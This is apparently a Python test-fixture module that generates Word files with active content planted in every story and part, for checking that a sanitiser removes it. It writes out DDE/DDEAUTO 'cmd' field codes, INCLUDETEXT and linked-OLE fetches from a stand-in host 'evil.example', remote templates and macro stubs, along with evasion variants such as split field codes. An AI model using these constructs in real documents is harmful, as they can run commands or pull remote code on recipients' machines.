"""A school's Word file with active content planted in any of its parts, made by code."""

from __future__ import annotations

import io
import posixpath
import re
import zipfile
from collections.abc import Mapping, Sequence
from functools import cache
from typing import NamedTuple
from xml.sax.saxutils import escape, quoteattr

import docx

from tests.reports.documents.documents import png
from tests.sim.exercise.exercises import known

EVIL = "http://evil.example/x"
SCHOOL = "Oak Street School"
KEPT = "words that stay"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MS = "http://schemas.microsoft.com/office"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NAMESPACES = (
    f'{_W} xmlns:r="{_OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)
BUILDING_BLOCK = "<w:docPart><w:docPartBody><w:p></w:p></w:docPartBody></w:docPart>"
_PACKAGE = b' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_TYPES = "[Content_Types].xml"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
STORIES = ("document", "header1", "header2", "footer1", "footnotes", "endnotes", "comments", "glossary/document")
"""Parts that hold paragraphs."""


class Link(NamedTuple):
    """A relationship. type: its last word, or all of it. is_outside: the target is no part of the file."""

    id: str
    type: str
    target: str
    is_outside: bool = False


class Planted(NamedTuple):
    """Active content. xml: in a paragraph. parts: with their types. names: what is named when it is removed."""

    xml: str
    names: str
    links: Sequence[Link] = ()
    parts: Mapping[str, tuple[str, bytes]] = {}


def run(content: str) -> str:
    return f"<w:r>{content}</w:r>"


def mark(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def codes(*pieces: str) -> str:
    return "".join(run(f'<w:instrText xml:space="preserve">{escape(piece)}</w:instrText>') for piece in pieces)


def shown(text: str) -> str:
    return run(f"<w:t>{text}</w:t>")


def complex_field(code: str, text: str = KEPT) -> str:
    """code: runs, from `codes` or with other fields in them."""
    return mark("begin") + code + mark("separate") + shown(text) + mark("end")


def choice(content: str, otherwise: str = "") -> str:
    """What readers take, and what the others do."""
    fallback = f"<mc:Fallback>{otherwise}</mc:Fallback>" if otherwise else ""
    return run(f"<mc:AlternateContent><mc:Choice Requires='w'>{content}</mc:Choice>{fallback}</mc:AlternateContent>")


def simple_field(code: str, text: str = KEPT) -> str:
    return f"<w:fldSimple w:instr={quoteattr(code)}>{shown(text)}</w:fldSimple>"


def picture(blip: str, properties: str = "") -> str:
    return run(
        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        f'<wp:docPr id="9" name="p">{properties}</wp:docPr><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing>"
    )


def shape(content: str = "", attributes: str = "") -> str:
    return run(f'<w:pict><v:shape style="width:9pt;height:9pt" {attributes}>{content}</v:shape></w:pict>')


def graphic(uri: str, content: str) -> str:
    return run(
        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="9" name="g"/>'
        f'<a:graphic><a:graphicData uri="{uri}">{content}</a:graphicData></a:graphic></wp:inline></w:drawing>'
    )


def inside(name: str) -> dict[str, tuple[str, bytes]]:
    """A picture in the file."""
    return {f"word/media/{name}": ("image/png", png(3, 3))}


def outside(kind: str) -> Link:
    return Link("e1", kind, EVIL, True)


def kept(names: str, *links: Link, blip: str = 'r:embed="e2"/>', properties: str = "") -> Planted:
    """With a picture that is in the file."""
    image = Link("e2", "image", "media/kept.png")
    return Planted(picture(f"<a:blip {blip}", properties), names, (*links, image), inside("kept.png"))


def attached(names: str, kind: str, target: str, content_type: str, xml: str = "") -> Planted:
    """With a part of the file."""
    return Planted(xml, names, (Link("e1", kind, target),), {f"word/{target}": (content_type, EVIL.encode())})


def form(code: str, names: str) -> Planted:
    """A field with a macro."""
    macro = '<w:ffData><w:entryMacro w:val="evil.example"/></w:ffData>'
    begin = run(f'<w:fldChar w:fldCharType="begin">{macro}</w:fldChar>')
    return Planted(begin + codes(code) + mark("separate") + shown(KEPT) + mark("end"), names)


BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
SVG_BLIP = 'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
IN_STORIES = {
    "DDEAUTO in pieces": Planted(complex_field(codes(" DD", "EAU", f'TO cmd "{EVIL}" ')), "DDEAUTO"),
    "DDE": Planted(simple_field(f'dde cmd "{EVIL}"'), "DDE"),
    "INCLUDETEXT": Planted(complex_field(codes(f' INCLUDETEXT "{EVIL}" ')), "INCLUDETEXT"),
    "INCLUDEPICTURE": Planted(simple_field(f' INCLUDEPICTURE "{EVIL}" \\d '), "INCLUDEPICTURE"),
    "quoted name": Planted(complex_field(codes(f' "INCLUDETEXT" "{EVIL}"')), "INCLUDETEXT"),
    "DATE": Planted(complex_field(codes(' DATE \\@ "d MMMM yyyy" ')), "DATE"),
    "DATE, simple": Planted(simple_field("DATE"), "DATE"),
    "HYPERLINK": Planted(complex_field(codes(f' HYPERLINK "{EVIL}" \\l "a" ')), "HYPERLINK"),
    "a field in a result": Planted(
        mark("begin") + codes(" REF a \\h ") + mark("separate") + complex_field(codes(f"DDE cmd {EVIL}")) + mark("end"),
        "DDE",
    ),
    "a code made by a field": Planted(
        complex_field(codes(" TOC ") + complex_field(codes(f'INCLUDETEXT "{EVIL}"'), "gone")), "TOC"
    ),
    "a code with text": Planted(complex_field(codes(" PAGE ") + shown(EVIL)), "PAGE"),
    "a code that one reader takes": Planted(
        complex_field(choice("<w:instrText>PAGE </w:instrText>", f"<w:instrText>DDE cmd {EVIL}</w:instrText>")), ""
    ),
    "a field that one reader takes": Planted(
        choice(BEGIN) + choice(f"<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>") + choice(END), "DDEAUTO"
    ),
    "a field in a formula": Planted(
        f"<m:oMath><m:r>{BEGIN}<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>{END}</m:r></m:oMath>", "DDEAUTO"
    ),
    "a deleted code": Planted(
        complex_field(run(f"<w:delInstrText>INCLUDETEXT {EVIL}</w:delInstrText>")), "INCLUDETEXT"
    ),
    "a code without an end": Planted(mark("begin") + codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
    "a code without a field": Planted(codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
    "a form with a macro": form(" FORMTEXT ", "FORMTEXT"),
    "a page number with a macro": form(" PAGE ", "the data of a form"),
    "a link": Planted(f'<w:hyperlink r:id="e1">{shown(KEPT)}</w:hyperlink>', EVIL, (outside("hyperlink"),)),
    "a link by its location": Planted(f'<w:hyperlink w:docLocation="{EVIL}">{shown(KEPT)}</w:hyperlink>', EVIL),
    "an outside picture": Planted(picture('<a:blip r:link="e1"/>'), EVIL, (outside("image"),)),
    "a picture kept in the file and outside": kept(EVIL, outside("image"), blip='r:embed="e2" r:link="e1"/>'),
    "an outside picture in an old shape": Planted(shape('<v:imagedata r:href="e1"/>'), EVIL, (outside("image"),)),
    "a picture of an old shape by its address": Planted(shape(f'<v:imagedata src="{EVIL}"/>'), EVIL),
    "an old shape that is a link": Planted(shape(attributes=f'href="{EVIL}"'), EVIL),
    "a picture that is a link": kept(EVIL, outside("hyperlink"), properties='<a:hlinkClick r:id="e1"/>'),
    "a picture with an action": kept(
        "an action of a picture", properties='<a:hlinkClick r:id="" action="ppaction://program"/>'
    ),
    "a picture with a drawing by commands": Planted(
        picture(
            f'<a:blip r:embed="e2"><a:extLst><a:ext uri="u"><asvg:svgBlip {SVG_BLIP} r:embed="e1"/></a:ext></a:extLst></a:blip>'
        ),
        "x.svg",
        (Link("e1", "image", "media/x.svg"), Link("e2", "image", "media/kept.png")),
        {**inside("kept.png"), "word/media/x.svg": ("image/svg+xml", f'<svg href="{EVIL}"/>'.encode())},
    ),
    "a video": kept(
        "a video",
        properties=f'<a:extLst><a:ext uri="u"><v15:webVideoPr xmlns:v15="{_MS}/word/2012/wordprocessingDrawing" '
        f'embeddedHtml="{EVIL}"/></a:ext></a:extLst>',
    ),
    "an OLE object": Planted(
        run(
            '<w:object><v:shape><v:imagedata r:id="e2"/></v:shape>'
            '<o:OLEObject Type="Embed" ProgID="Package" r:id="e1"/></w:object>'
        ),
        "an OLE object",
        (Link("e1", "oleObject", "embeddings/x.bin"), Link("e2", "image", "media/preview.png")),
        {"word/embeddings/x.bin": ("application/vnd.openxmlformats-officedocument.oleObject", EVIL.encode())}
        | inside("preview.png"),
    ),
    "a linked OLE object": Planted(
        run('<w:object><o:OLEObject Type="Link" r:id="e1" UpdateMode="Always"/></w:object>'),
        "an OLE object outside",
        (outside("oleObject"),),
    ),
    "an ActiveX control": attached(
        *("an ActiveX control", "control", "activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        run('<w:pict><v:shape/><w:control r:id="e1" w:name="x"/></w:pict>'),
    ),
    "a chart": attached(
        *("a chart", "chart", "charts/chart1.xml", "application/x"),
        graphic(CHART, f'<c:chart xmlns:c="{CHART}" r:id="e1"/>'),
    ),
    "a web extension": Planted(
        graphic(f"{_MS}/webextensions/webextension/2010/11", f"<x:evil xmlns:x='{EVIL}'/>"),
        "a drawing of another program",
    ),
    "a fill of no known kind": Planted(run(f'<x:fill xmlns:x="{EVIL}"/>'), '"fill"'),
    "an element of no known kind": Planted(run(f'<x:evil xmlns:x="{EVIL}"/>'), "evil"),
}
"""What can stand in a paragraph, in any story."""
IN_TEXT = {
    "an inserted file": attached(
        "an inserted file", "aFChunk", "afchunk.htm", "text/html", '</w:p><w:altChunk r:id="e1"/><w:p>'
    ),
    "an inserted document": Planted('<w:subDoc r:id="e1"/>', "an inserted document", (outside("subDocument"),)),
}
"""What can stand in the text alone."""
IN_PARTS = {
    "an attached template": (
        "settings",
        Planted('<w:attachedTemplate r:id="e1"/>', "an attached template", (outside("attachedTemplate"),)),
    ),
    "mail merge": ("settings", Planted(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>', "mail merge")),
    "a picture in the theme": (
        "theme/theme1",
        Planted('<a:blip r:link="e1"/>', "a picture outside", (outside("image"),)),
    ),
    "macros": ("document", attached("macros", "vbaProject", "vbaProject.bin", "application/vnd.ms-office.vbaProject")),
    "a ribbon": ("", attached("the whole file: removed a ribbon", "extensibility", "customUI.xml", "application/xml")),
    "a base of addresses": ("../docProps/app", Planted(f"<HyperlinkBase>{EVIL}</HyperlinkBase>", "a base for links")),
}
"""What stands in other parts, or in none: by the part."""


def plant(content: bytes, part: str, planted: Planted) -> bytes:
    """A file with active content in the last paragraph of a part, or at its end. part: empty for the whole file."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    name = posixpath.normpath(f"word/{part}.xml") if part else ""
    folder, file = posixpath.split(name)
    place = posixpath.join(folder, "_rels", f"{file}.rels")
    rels = parts.get(place, b"<Relationships></Relationships>".replace(b">", _PACKAGE, 1))
    own = f"e{len(rels)}"
    added = "".join(
        f'<Relationship Id="{own}{one.id}" Type="{_OFFICE}/{one.type}" '
        + (f'Target="{one.target}" TargetMode="External"/>' if one.is_outside else f'Target="/word/{one.target}"/>')
        for one in planted.links
    )
    if added:
        parts[place] = rels.replace(b"</Relationships>", f"{added}</Relationships>".encode())
    if name:
        parts[name] = _insert(parts[name].decode(), re.sub('"(e[12])"', rf'"{own}\1"', planted.xml)).encode()
    types = "".join(f'<Override PartName="/{one}" ContentType="{kind}"/>' for one, (kind, _) in planted.parts.items())
    parts[_TYPES] = parts[_TYPES].replace(b"</Types>", f"{types}</Types>".encode())
    parts |= {one: data for one, (_, data) in planted.parts.items()}
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        for one, data in parts.items():
            packed.writestr(one, data)
    return written.getvalue()


def _insert(text: str, xml: str) -> str:
    """Puts elements into a part, and declares the namespaces that it lacks."""
    root = known(re.search(r"<[^?!][^>]*>", text))
    missing = [one for one in NAMESPACES.split(" ") if f"{one.partition('=')[0]}=" not in root[0]]
    text = text.replace(root[0], f"{root[0][:-1]} {' '.join(missing)}>", 1)
    end = text.rindex("</w:p>") if "</w:p>" in text else text.rindex("</")
    return text[:end] + xml + text[end:]


@cache
def letterhead() -> bytes:
    """A harmless file with every story: a letterhead with a picture and a page number, notes, a comment, and building blocks."""
    document = docx.Document()
    first = document.sections[0]
    first.different_first_page_header_footer = True
    first.first_page_header.paragraphs[0].add_run(SCHOOL).add_picture(io.BytesIO(png(20, 10)))
    first.header.paragraphs[0].text = SCHOOL
    first.footer.paragraphs[0].text = SCHOOL
    document.add_comment(document.add_paragraph("a letter").runs[0], "a comment", "author")
    written = io.BytesIO()
    document.save(written)
    content = plant(written.getvalue(), "footer1", Planted(complex_field(codes(" PAGE ", "\\* Arabic "), "1"), ""))
    for kind, name, inner in (
        ("footnotes", "footnotes", '<w:footnote w:id="2"><w:p></w:p></w:footnote>'),
        ("endnotes", "endnotes", '<w:endnote w:id="2"><w:p></w:p></w:endnote>'),
        ("glossaryDocument", "glossary/document", f"<w:docParts>{BUILDING_BLOCK}</w:docParts>"),
    ):
        content_type = f"{WML}.{name.replace('glossary/document', 'document.glossary')}+xml"
        parts = {f"word/{name}.xml": (content_type, f"<w:{kind} {_W}>{inner}</w:{kind}>".encode())}
        content = plant(content, "document", Planted("", "", (Link(kind, kind, f"{name}.xml"),), parts))
    return content


@cache
def planted_everywhere() -> bytes:
    """The letterhead with all of it in all of its parts."""
    content = letterhead()
    for one in IN_STORIES.values():
        for story in STORIES:
            content = plant(content, story, one)
    for one in IN_TEXT.values():
        content = plant(content, "document", one)
    for part, one in IN_PARTS.values():
        content = plant(content, part, one)
    return content
